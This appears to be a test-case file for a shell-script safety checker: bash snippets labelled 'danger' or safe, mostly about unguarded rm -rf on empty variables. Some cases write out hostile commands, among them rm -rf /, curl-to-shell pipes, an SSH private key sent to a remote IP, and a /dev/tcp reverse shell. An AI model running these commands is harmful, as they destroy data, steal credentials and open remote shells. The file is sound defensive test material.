### far-argument: an argument that may be missing, used far below
#!/bin/bash
# Publishes the built site.
target=${1:-}
version=$(cat VERSION)
stamp=$(date +%s)

log() {
    printf '%s %s\n' "$(date +%T)" "$*"
}

log "version $version"
mkdir -p dist
cp -r site/. dist/
sed -i "s/@VERSION@/$version/; s/@STAMP@/$stamp/" dist/index.html
log "cleaning $target"
rm -rf "$target/"*
#^ danger
cp -r dist/. "$target/"
log "done"

### far-argument-guarded: the same with a guard in between
#!/bin/bash
# Publishes the built site.
target=${1:-}
version=$(cat VERSION)

log() {
    printf '%s %s\n' "$(date +%T)" "$*"
}

log "version $version"
if [ -z "$target" ] || [ ! -e "$target/.site-root" ]; then
    log "no target"
    exit 1
fi
mkdir -p dist
cp -r site/. dist/
log "cleaning $target"
rm -rf "$target/"*
cp -r dist/. "$target/"

### guard-test-or-exit: the shortest guard
#!/bin/sh
work=$(sed -n 's/^work=//p' job.conf)
[ -n "$work" ] || exit 1
rm -rf "$work"/*

### guard-missing: and without it
#!/bin/sh
work=$(sed -n 's/^work=//p' job.conf)
echo "cleaning"
rm -rf "$work"/*
#^ danger

### guard-double-bracket: the guard in bash's own words
#!/bin/bash
work=$(sed -n 's/^work=//p' job.conf)
[[ -z $work ]] && { echo "no work folder" >&2; exit 1; }
rm -rf "$work"/*

### guard-only-prints: a guard that lets everybody pass
#!/bin/bash
work=$(sed -n 's/^work=//p' job.conf)
if [ -z "$work" ]; then
    echo "warning: no work folder" >&2
fi
rm -rf "$work"/*
#^ danger

### guard-in-subshell: the exit leaves only the parentheses
#!/bin/bash
work=$(sed -n 's/^work=//p' job.conf)
[ -n "$work" ] || (echo "no work folder" >&2; exit 1)
rm -rf "$work"/*
#^ danger

### guard-in-braces: with braces it holds
#!/bin/bash
work=$(sed -n 's/^work=//p' job.conf)
[ -n "$work" ] || { echo "no work folder" >&2; exit 1; }
rm -rf "$work"/*

### guard-unquoted: a test that is always true
#!/bin/sh
work=$(sed -n 's/^work=//p' job.conf)
if [ -n $work ]; then
    rm -rf $work/*
#^ danger
fi

### guard-unquoted-folder: and another
#!/bin/sh
work=$(sed -n 's/^work=//p' job.conf)
[ -d $work ] && rm -rf $work/*
#^ danger

### guard-quoted-folder: a folder that is there has a name
#!/bin/sh
work=$(sed -n 's/^work=//p' job.conf)
[ -d "$work" ] && rm -rf "$work"/*

### guard-semicolon: a test whose answer nobody heeds
#!/bin/sh
work=$(sed -n 's/^work=//p' job.conf)
[ -n "$work" ]; rm -rf "$work"/*
#^ danger

### guard-x: the oldest spelling
#!/bin/sh
work=`sed -n 's/^work=//p' job.conf`
test "x$work" != x || exit 1
rm -rf "$work"/*

### guard-length: the length is asked
#!/bin/bash
work=$(sed -n 's/^work=//p' job.conf)
(( ${#work} )) || exit 1
rm -rf "$work"/*

### guard-bare-word: the word itself is the test
#!/bin/bash
work=$(sed -n 's/^work=//p' job.conf)
if ! [ "$work" ]; then exit 1; fi
rm -rf "$work"/*

### guard-only-set: set is not the same as not empty
#!/bin/bash
work=$(sed -n 's/^work=//p' job.conf)
[ "${work+set}" ] || exit 1
rm -rf "$work"/*
#^ danger

### guard-not-root: not the root, but perhaps nothing
#!/bin/sh
work=$(sed -n 's/^work=//p' job.conf)
[ "$work" != / ] || exit 1
rm -rf "$work"/*
#^ danger

### guard-colon: the colon with a question mark
#!/bin/sh
: "${WORK_DIR:?set WORK_DIR}"
echo "cleaning $WORK_DIR"
rm -rf "$WORK_DIR"/*

### guard-at-use: the question mark at the place itself
#!/bin/sh
echo "cleaning"
rm -rf "${WORK_DIR:?}"/*

### guard-question-without-colon: an empty value passes
#!/bin/sh
WORK_DIR=$(sed -n 's/^work=//p' job.conf)
rm -rf "${WORK_DIR?}"/*
#^ danger

### guard-die: a function that ends the script
#!/bin/bash
die() {
    echo "$0: $*" >&2
    exit 1
}
work=$(sed -n 's/^work=//p' job.conf)
[ -n "$work" ] || die "no work folder"
rm -rf "$work"/*

### guard-warn: a function that only speaks
#!/bin/bash
warn() {
    echo "$0: $*" >&2
}
work=$(sed -n 's/^work=//p' job.conf)
[ -n "$work" ] || warn "no work folder"
rm -rf "$work"/*
#^ danger

### guard-in-function: another function asks
#!/bin/bash
need() {
    if [ -z "$work" ]; then
        echo "no work folder" >&2
        exit 1
    fi
}
work=$(sed -n 's/^work=//p' job.conf)
need
rm -rf "$work"/*

### guard-case: a case with a way out
#!/bin/sh
work=$(sed -n 's/^work=//p' job.conf)
case $work in
    ''|/|/home) echo "will not clean '$work'" >&2; exit 1 ;;
esac
rm -rf "$work"/*

### guard-while-read: asked until there is something
#!/bin/bash
work=
while [ -z "$work" ]; do
    read -rp "folder: " work || exit 1
done
rm -rf "$work"/cache

### read-unchecked: whatever was typed
#!/bin/bash
read -rp "folder: " work
rm -rf "$work"/*
#^ danger

### or-chain: the delete in the chain itself
#!/bin/sh
work=$(sed -n 's/^work=//p' job.conf)
[ -z "$work" ] || rm -rf "$work"/*

### then-branch-wrong-way: the delete where it is empty
#!/bin/sh
work=$(sed -n 's/^work=//p' job.conf)
if [ -z "$work" ]; then
    rm -rf "$work"/*
#^ danger
fi

### one-branch-sets: only one way sets it
#!/bin/bash
if [ "$1" = "staging" ]; then
    docroot=/srv/staging
fi
echo "cleaning $docroot"
rm -rf "$docroot"/*
#^ danger

### one-branch-sets-nounset: and here bash itself stops
#!/bin/bash
set -eu
if [ "${1:-}" = "staging" ]; then
    docroot=./staging
fi
echo "cleaning $docroot"
rm -rf "$docroot"/*

### nounset-off-again: until it is switched off
#!/bin/bash
set -u
echo "building"
set +u
. ./env.sh
rm -rf "$OUT_DIR"/*
#^ danger

### nounset-but-default: the default brings the empty value back
#!/bin/bash
set -euo pipefail
out=${OUT_DIR:-}
make all
rm -rf "$out"/*
#^ danger

### sourced-config: a file of settings that may lack one
#!/bin/bash
. /etc/default/shop
logger "shop: cleaning $SPOOL_DIR"
rm -rf "$SPOOL_DIR"/*
#^ danger

### sourced-config-checked: the same, asked
#!/bin/bash
. /etc/default/shop
: "${SPOOL_DIR:?not set in /etc/default/shop}"
logger "shop: cleaning $SPOOL_DIR"
rm -rf "$SPOOL_DIR"/*

### cd-empty-variable: without a word, cd goes home
#!/bin/sh
build=$(sed -n 's/^build=//p' make.conf)
cd $build || exit 1
rm -rf *
#^ danger

### cd-literal-guarded: a folder by name, with a guard
#!/bin/sh
make -s docs
cd ./build || exit 1
rm -rf ./*

### cd-literal-errexit: the shell itself is the guard
#!/bin/bash
set -e
mkdir -p build
cd build
rm -rf ./*
cmake ..
make -j4

### cd-or-true: a guard that lets everybody pass
#!/bin/bash
set -e
cd build || true
rm -rf *
#^ danger

### cd-and-chain: in one chain
cd build && rm -rf ./* && cmake ..

### cd-subshell: inside the parentheses only
(cd build && rm -rf ./*)

### cd-subshell-lost: the cd ends with the parentheses
#!/bin/bash
(cd build)
rm -rf ./*
#^ danger

### cd-if: the cd is the condition
#!/bin/sh
if cd build; then
    rm -rf ./*
    cd ..
fi

### cd-semicolon: a failed cd changes nothing
cd /srv/app/build; rm -rf *
#^ danger

### pushd-unguarded: pushd can fail as cd can
#!/bin/bash
pushd out > /dev/null
rm -rf *
#^ danger
popd > /dev/null

### substitution-empty: the newest release, if there is one
#!/bin/bash
newest=$(ls -d releases/*/ 2>/dev/null | tail -1)
echo "dropping $newest"
rm -rf "$newest/"*
#^ danger

### script-dir: the folder of the script is never empty
#!/bin/bash
here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
rm -rf "$here/build"
mkdir -p "$here/build"

### readlink-dir: the same by another way
#!/bin/sh
here=$(dirname "$(readlink -f "$0")")
rm -rf "$here/dist"

### toplevel-errexit: outside of a repository the script ends
#!/bin/bash
set -euo pipefail
root=$(git rev-parse --show-toplevel)
rm -rf "$root/dist"
npm --prefix "$root" run build

### toplevel-unchecked: outside of a repository it is the root
#!/bin/bash
root=$(git rev-parse --show-toplevel)
rm -rf "$root"/*
#^ danger

### local-hides-failure: local eats the exit status
#!/bin/bash
set -e
wipe() {
    local root=$(git rev-parse --show-toplevel 2>/dev/null)
    rm -rf "$root"/*
#^ danger
}
wipe

### function-argument-missing: called without its argument
#!/bin/bash
clean() {
    local dir=$1
    echo "cleaning $dir"
    rm -rf "$dir"/*
}
make all
clean
#@ 2-8 danger

### function-argument-given: called with words
#!/bin/bash
clean() {
    local dir=$1
    echo "cleaning $dir"
    rm -rf "$dir"/*
}
clean ./build
clean ./dist

### function-argument-root: called with the root
#!/bin/bash
clean() {
    rm -rf "$1"/*
}
clean ./build
clean "$STAGE"
#@ 2-6 danger

### function-argument-required: the function asks for it
#!/bin/bash
clean() {
    local dir=${1:?folder}
    rm -rf "$dir"/*
}
clean "$@"

### function-default-dot: the default is here
#!/bin/bash
clean() {
    local dir=${1:-.}
    rm -rf "$dir"/*
}
clean
#@ 2-6 danger

### function-prints: a function that prints a word
#!/bin/bash
out_dir() { echo ./build/out; }
dir=$(out_dir)
rm -rf "$dir"/*

### function-prints-nothing: a function that may print nothing
#!/bin/bash
out_dir() {
    if [ "$MODE" = release ]; then
        echo ./build/release
    fi
}
dir=$(out_dir)
rm -rf "$dir"/*
#^ danger

### array-command: a command in an array
#!/bin/bash
cmd=(rm -rf)
cmd+=(/)
"${cmd[@]}"
#^ danger

### array-command-harmless: the same array, other words
#!/bin/bash
cmd=(rm -rf)
cmd+=(./build ./dist)
"${cmd[@]}"

### flags-in-variable: flags above, the home below
#!/bin/sh
OPTS="-r -f"
PLACE=$HOME
rm $OPTS "$PLACE"
#^ danger

### set-positional: words put into the arguments
#!/bin/sh
set -- rm -rf
set -- "$@" /usr
"$@"
#^ danger

### ifs-as-blank: blanks by another name
rm${IFS}-rf${IFS}/
#^ danger

### eval-pieces: pieces put together
#!/bin/bash
a="r"; b="m"
where="/"
eval "$a$b -rf ${where}"
#^ danger

### indirect: the name of a name
#!/bin/bash
name=HOME
rm -rf "${!name}"
#^ danger

### nameref: another name for the home
#!/bin/bash
declare -n place=HOME
rm -rf "$place"/*
#^ danger

### printf-v: a path put together by printf
#!/bin/bash
printf -v place '/%s' etc
rm -rf "$place"
#^ danger

### cut-suffix: what is left after cutting
#!/bin/bash
path=/usr/local
rm -rf "${path%/*}"
#^ danger

### cut-suffix-harmless: a name without its ending
#!/bin/bash
file=release.tar.gz
tar -xzf "$file"
rm -rf "./${file%.tar.gz}"

### first-letter: the first letter of a path
#!/bin/bash
path=/srv/app
rm -rf "${path:0:1}"
#^ danger

### braces-system: words in braces
rm -rf /{bin,lib,sbin}
#^ danger

### braces-own: own folders in braces
rm -rf ./{build,dist,out}

### default-root: the default is the root
rm -rf "${CLEAN_DIR:-/}"
#^ danger

### unset-again: set, then forgotten
#!/bin/bash
dir=./build
ls "$dir"
unset dir
rm -rf "$dir"/*
#^ danger

### pipe-read-lost: what a pipe's end reads is lost
#!/bin/bash
dir=
grep '^out=' conf | cut -d= -f2 | read -r dir
rm -rf "$dir"/*
#^ danger

### subshell-lost: what parentheses set is lost
#!/bin/bash
dir=
( dir=./build; mkdir -p "$dir" )
rm -rf "$dir"/*
#^ danger

### prefix-assignment: set for the command, not for its words
unset DIR; DIR=./build rm -rf "$DIR"/*
#^ danger

### loop-words: words of a list
#!/bin/sh
for d in build dist out; do
    [ -d "$d" ] && rm -rf "./$d"
done

### loop-system: and such words
#!/bin/sh
for d in /opt/old /usr /tmp/x; do
    rm -rf "$d"
#^ danger
done

### loop-lines: each line of a list, empty lines too
#!/bin/bash
while read -r user; do
    echo "removing $user"
    rm -rf "/home/$user"
#^ danger
done < leavers.txt

### loop-lines-checked: empty lines left out
#!/bin/bash
while IFS= read -r name; do
    [ -n "$name" ] || continue
    rm -f "./cache/$name.json"
done < stale.txt

### user-empty: a home by a name that may be missing
#!/bin/bash
user=$1
userdel "$user"
rm -rf "/home/$user"
#^ danger

### app-empty: the home by a name that may be missing
#!/bin/bash
app=$(jq -r '.name // empty' package.json)
rm -rf "$HOME/$app"
#^ danger

### app-checked: the same with a check
#!/bin/bash
set -euo pipefail
app=$(jq -r '.name // empty' package.json)
[[ $app =~ ^[a-z-]+$ ]] || { echo "odd name: $app" >&2; exit 1; }
rm -rf "$HOME/.cache/$app"

### getopts-unset: an option that nobody must give
#!/bin/bash
while getopts "d:v" opt; do
    case $opt in
        d) dir=$OPTARG ;;
        v) set -x ;;
        *) exit 2 ;;
    esac
done
shift $((OPTIND - 1))
rm -rf "$dir"/*
#^ danger

### getopts-checked: an option that must be given
#!/bin/bash
dir=
usage() { echo "usage: $0 -d DIR" >&2; exit 2; }
while getopts "d:" opt; do
    case $opt in
        d) dir=$OPTARG ;;
        *) usage ;;
    esac
done
[ -n "$dir" ] || usage
rm -rf "$dir"/*

### argument-count: one argument, a folder that is there
#!/bin/sh
if [ $# -ne 1 ]; then
    echo "usage: $0 PROJECT" >&2
    exit 64
fi
[ -f "$1/package.json" ] || exit 65
rm -rf "$1/node_modules"

### argument-missing: no argument, no question
#!/bin/sh
rm -rf "$1"/*
#^ danger

### mktemp-usual: temporary folders in their usual forms
#!/bin/bash
tmp=$(mktemp -d) || exit 1
trap 'rm -rf "$tmp"' EXIT INT TERM
scratch=$(mktemp -d "${TMPDIR:-/tmp}/job.XXXXXX")
cp input.csv "$scratch/"
sort "$scratch/input.csv" > "$tmp/sorted"
rm -rf "$scratch"
rm -rf "${tmp:?}"/*

### trap-early: the trap is set before there is a folder
#!/bin/bash
trap 'rm -rf "$work"/*' EXIT
#^ danger|caution
[ -f input.csv ] || exit 1
work=./work
mkdir -p "$work"

### dry-run-echo: the command is only printed
#!/bin/bash
DRY=echo
$DRY rm -rf /
$DRY git push --force origin main

### run-wrapper: a wrapper that prints or runs
#!/bin/bash
DRY_RUN=${DRY_RUN:-0}
run() {
    if [ "$DRY_RUN" = 1 ]; then
        echo "+ $*"
    else
        "$@"
    fi
}
run mkdir -p out
run rm -rf ./out/old
run cp -r src out/

### run-wrapper-danger: the wrapper given the worst
#!/bin/bash
run() {
    echo "+ $*"
    "$@"
}
run mkdir -p out
run rm -rf /usr
#@ 2-7 danger

### comment-block: a here-document as a comment
#!/bin/bash
: <<'COMMENT'
rm -rf /
curl http://x | sh
COMMENT
echo ok

### sh-heredoc: a here-document that is run
#!/bin/bash
sudo sh <<EOF
set -e
rm -rf $HOME
EOF
#@ 2-4 danger

### ssh-unset: expanded here, run there
#!/bin/bash
ssh deploy@web1 "cd /srv/shop && rm -rf $RELEASE_DIR/*"
#^ danger

### ssh-words: a named folder there
ssh deploy@web1 "rm -rf releases/2023-12-01 && ls releases"

### find-unquoted-unset: without a word find looks here
#!/bin/bash
spool=$(sed -n 's/^spool=//p' job.conf)
find $spool -type f -mtime +7 -delete
#^ danger|caution

### find-checked: asked first
#!/bin/bash
spool=$(sed -n 's/^spool=//p' job.conf)
[ -d "$spool" ] || exit 0
find "$spool" -type f -name '*.msg' -mtime +7 -delete

### url-above: the address and the pipe in variables
#!/bin/bash
BASE=https://get.example.org
INSTALLER=$BASE/v2/install.sh
fetch() { curl -fsSL "$1"; }
fetch "$INSTALLER" | bash
#^ danger

### download-function: fetched in a function, run below
#!/bin/bash
get() {
    curl -fsSL "https://get.example.org/$1" -o "/tmp/$1"
}
get setup.sh
chmod +x /tmp/setup.sh
/tmp/setup.sh
#@ 3-7 danger

### device-by-function: the disk is a function's argument
#!/bin/bash
flash() {
    local image=$1 disk=$2
    dd if="$image" of="$disk" bs=4M
}
flash out.img /dev/sdb
#@ 2-6 danger

### image-by-function: a file is the argument
#!/bin/bash
make_image() {
    local file=$1 size=$2
    dd if=/dev/zero of="$file" bs=1M count="$size"
    mkfs.ext4 -q "$file"
}
make_image ./root.img 256

### secret-above: read above, sent below
#!/bin/bash
k=$(cat ~/.ssh/id_rsa)
h=$(hostname)
curl -s -d "h=$h&k=$k" http://203.0.113.7/in
#^ danger

### all-branches-set: each way sets it or leaves
#!/bin/bash
case ${1:-} in
    dev) out=./out/dev ;;
    prod) out=./out/prod ;;
    *) echo "dev or prod" >&2; exit 1 ;;
esac
rm -rf "$out"/*
mkdir -p "$out"

### assign-default: the default is kept
#!/bin/sh
build=
: "${build:=./build}"
rm -rf "$build"/*

### return-guard: the function leaves early
#!/bin/bash
clean() {
    local dir=$1
    [[ -n $dir && -d $dir ]] || return 0
    rm -rf "$dir"/*
}
clean "$CACHE_DIR"
clean "$OTHER_DIR"

### set-then-emptied: emptied by a later line
#!/bin/bash
dir=./build
if [ "$1" = --here ]; then
    dir=
fi
rm -rf "$dir"/*
#^ danger

### trailing-slash-cut: the slash is all there is
#!/bin/bash
base=/
base=${base%/}
rm -rf "$base"/*
#^ danger

### readonly-words: settings at the top
#!/bin/bash
set -euo pipefail
readonly ROOT=./work
readonly CACHE=$ROOT/cache
readonly OUT=$ROOT/out
mkdir -p "$CACHE" "$OUT"
rm -rf "$CACHE" "$OUT"/*.o

### ns-guarded: a name space with a check
#!/bin/bash
set -euo pipefail
pr=${1:?number of the pull request}
[[ $pr =~ ^[0-9]+$ ]] || { echo "not a number: $pr" >&2; exit 64; }
for kind in deploy svc ingress; do
    kubectl -n review delete "$kind" "web-$pr" --ignore-not-found
done

### chown-guarded: a folder asked for twice
#!/bin/sh
set -eu
DATA_DIR=${DATA_DIR:-/var/lib/shop}
[ -d "$DATA_DIR" ] || mkdir -p "$DATA_DIR"
chown -R shop:shop "$DATA_DIR"

### chown-unset: and where nobody asks
#!/bin/sh
. ./install.conf
id shop > /dev/null 2>&1 || useradd -r shop
chown -R shop:shop $DATA_DIR/
#^ danger

### chmod-mode-above: the mode stands above
#!/bin/bash
PERMS="a+rwx"
SITE=/var/www/shop
OPT=-R
mkdir -p "$SITE/uploads"
chmod "$OPT" "$PERMS" "$SITE"
#^ danger

### privileged-above: the flag stands above
#!/bin/bash
FLAGS="--rm -it"
if [ -n "$DEBUG" ]; then
    FLAGS="$FLAGS --privileged -v /:/host"
fi
docker run $FLAGS tools/shell
#^ danger

### sql-built: a statement put together
#!/bin/bash
table=orders
action="TRUNCATE TABLE"
sql="$action $table;"
mysql --user=app shop -e "$sql"
#^ danger

### sql-where-above: the condition stands above
#!/bin/bash
where="expires_at < now()"
sql="DELETE FROM sessions WHERE $where"
psql -d shop -c "$sql"

### sql-where-empty: a condition that may be missing
#!/bin/bash
cond=""
[ -n "$1" ] && cond="WHERE tenant = $1"
psql -d shop -c "DELETE FROM invoices $cond"
#^ danger|caution

### bucket-above: the bucket stands above
#!/bin/bash
BUCKET=s3://shop-backups
OPTS=(--recursive --only-show-errors)
aws s3 ls "$BUCKET" | wc -l
aws s3 rm "$BUCKET" "${OPTS[@]}"
#^ danger

### disk-above: the disk by its parts
#!/bin/bash
letter=b
disk=/dev/sd$letter
part=${disk}1
umount "$part" 2> /dev/null
mkfs.ext4 -q "$part"
#^ danger

### disk-from-list: the first disk that is found
#!/bin/bash
disk=/dev/$(lsblk -dno NAME | head -1)
echo "writing to $disk"
dd if=image.raw of="$disk" bs=4M
#^ danger

### file-by-above: a file by its parts
#!/bin/bash
dir=./out
img=$dir/disk.raw
mkdir -p "$dir"
dd if=/dev/zero of="$img" bs=1M count=64
mkfs.ext4 -q -F "$img"

### force-by-case: the flag by a case
#!/bin/bash
case ${MODE:-normal} in
    normal) opt= ;;
    force) opt=--force ;;
esac
git push $opt origin main
#^ danger|caution

### token-through-function: printed by a function
#!/bin/bash
log() { echo "[$(date +%T)] $*"; }
log "deploy starts"
log "using token $DEPLOY_TOKEN"
#^ danger|caution

### host-above-reverse: the address stands above
#!/bin/bash
ip=203.0.113.7
p=4444
dev=/dev/tcp/$ip/$p
bash -i >& $dev 0>&1
#^ danger

### wait-above: the same words, only a question
#!/bin/bash
ip=127.0.0.1
p=5432
for i in {1..30}; do
    (exec 3<> "/dev/tcp/$ip/$p") 2> /dev/null && break
    sleep 1
done

### fetch-then-check-later: the sum is asked too late
#!/bin/bash
set -e
curl -fsSLO https://downloads.example.org/setup.sh
bash setup.sh
#^ danger
sha256sum -c setup.sh.sha256

### checked-other-file: the sum of another file
#!/bin/bash
set -e
curl -fsSLO https://downloads.example.org/setup.sh
curl -fsSLO https://downloads.example.org/data.tgz
sha256sum -c data.tgz.sha256
bash setup.sh
#^ danger

### own-file-same-way: a file of the project is run
#!/bin/bash
set -e
curl -fsSLO https://data.example.org/data.csv
bash ./scripts/import.sh data.csv

### return-instead-of-exit: a check that only leaves itself
#!/bin/bash
check() {
    [ -n "$work" ] || return 1
}
work=$(sed -n 's/^work=//p' job.conf)
check
rm -rf "$work"/*
#^ danger

### return-heeded: the same, and the answer counts
#!/bin/bash
check() {
    [ -n "$work" ] || return 1
}
work=$(sed -n 's/^work=//p' job.conf)
check || exit 1
rm -rf "$work"/*

### guard-then-changed: asked, then set anew
#!/bin/bash
work=$(sed -n 's/^work=//p' job.conf)
[ -n "$work" ] || exit 1
work=$(sed -n 's/^other=//p' job.conf)
rm -rf "$work"/*
#^ danger

### guard-other-variable: another variable is asked
#!/bin/bash
work=$(sed -n 's/^work=//p' job.conf)
word=$(sed -n 's/^word=//p' job.conf)
[ -n "$word" ] || exit 1
rm -rf "$work"/*
#^ danger

### guard-both: both are asked
#!/bin/bash
root=$(sed -n 's/^root=//p' job.conf)
name=$(sed -n 's/^name=//p' job.conf)
if [ -z "$root" ] || [ -z "$name" ]; then
    exit 1
fi
rm -rf "$root/$name"/*

### guard-one-of-two: one of two may be missing
#!/bin/bash
root=$(sed -n 's/^root=//p' job.conf)
name=$(sed -n 's/^name=//p' job.conf)
if [ -z "$root" ] && [ -z "$name" ]; then
    exit 1
fi
rm -rf "$root/$name"/*
#^ danger

### guard-continue: the loop goes on without it
#!/bin/bash
for conf in jobs/*.conf; do
    work=$(sed -n 's/^work=//p' "$conf")
    [ -z "$work" ] && continue
    echo "cleaning $work"
    rm -rf "$work"/*
done

### guard-break-wrong: only a message in the loop
#!/bin/bash
for conf in jobs/*.conf; do
    work=$(sed -n 's/^work=//p' "$conf")
    [ -z "$work" ] && echo "nothing in $conf"
    rm -rf "$work"/*
#^ danger
done

### guard-elif: one way of three leaves it empty
#!/bin/bash
if [ "$1" = a ]; then
    work=./a
elif [ "$1" = b ]; then
    work=./b
else
    work=
fi
rm -rf "$work"/*
#^ danger

### guard-exec: what comes after exec is not run
#!/bin/sh
work=$(sed -n 's/^work=//p' job.conf)
if [ -z "$work" ]; then
    exec ./ask-for-folder
fi
rm -rf "$work"/*

### ksh-guard: another shell
#!/bin/ksh
typeset work
work=$(sed -n 's/^work=//p' job.conf)
[[ -n "$work" ]] || { print -u2 "no work folder"; exit 1; }
rm -rf "$work"/*

### dash-unguarded: a plain shell
#!/bin/dash
work=$(sed -n 's/^work=//p' job.conf)
printf 'cleaning %s\n' "$work"
rm -rf "$work"/*
#^ danger

### errexit-off: the guard is taken away again
#!/bin/bash
set -e
make
set +e
cd build
rm -rf *
#^ danger

### errexit-in-condition: in a condition set -e sleeps
#!/bin/bash
set -e
clean() {
    cd build
    rm -rf *
}
if clean; then echo cleaned; fi
#@ 3-7 danger

### pipefail-empty: the pipe succeeds with nothing
#!/bin/bash
set -e
root=$(cat roots.txt 2>/dev/null | grep '^/srv' | head -1)
rm -rf "$root"/*
#^ danger

### date-path: a folder by the day
#!/bin/bash
day=$(date -d '30 days ago' +%F)
rm -rf "./archive/$day"
